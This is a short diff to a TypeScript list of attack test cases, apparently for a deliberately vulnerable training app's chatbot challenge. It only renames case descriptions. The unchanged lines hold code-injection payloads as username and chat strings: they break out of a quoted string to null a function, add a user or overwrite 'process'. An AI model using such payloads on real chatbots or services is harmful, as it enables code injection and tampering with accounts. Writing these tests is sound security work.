@@ -41,12 +41,12 @@ export const attacks: Attack[] = [
   },
   {
     challenge,
-    name: 'the same by the other name of the function',
+    name: 'the payload with the other name of the function',
     run: named('admin"); processQuery=null; users.addUser("1337", "test', onTheProfilePage),
   },
   {
     challenge,
-    name: 'the same in the chat, with the rest of the line made a comment',
+    name: 'the payload in the chat, with the rest of the line as a comment',
     run: named('Jim"); process = 42; //', inTheChat),
   },
   {
@@ -92,7 +92,7 @@ export const attacks: Attack[] = [
   },
   {
     challenge,
-    name: 'a brand-new customer strikes it dumb for somebody else',
+    name: 'a new customer breaks the bot for another customer',
     run: async (tools) => {
       const { http, logIn, settings } = tools
       const email = `quiet@${settings.domain}`
